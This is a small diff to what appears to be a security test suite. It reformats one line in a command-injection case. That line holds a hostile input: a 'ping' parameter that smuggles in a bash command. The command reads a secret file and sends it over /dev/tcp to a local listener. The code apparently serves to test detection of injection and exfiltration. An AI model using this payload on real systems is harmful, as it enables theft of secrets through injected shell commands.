@@ -51,7 +51,9 @@ def decoy(work: Path) -> Path:
 
 def command_injection(server: WebServer, secret: Path, listener: Listener) -> None:
     """(a) The diagnosis page's shell runs bash, which reads the secret and connects out."""
-    server.get("/shop.py", q="oak", ping=f"localhost; bash -c 'cat {secret} > /dev/tcp/127.0.0.1/{listener.port}'")
+    server.get(
+        "/shop.py", q="oak", ping=f"localhost; bash -c 'cat {secret} > /dev/tcp/127.0.0.1/{listener.port}'"
+    )
 
 
 def code_injection(server: WebServer, secret: Path, listener: Listener) -> None:
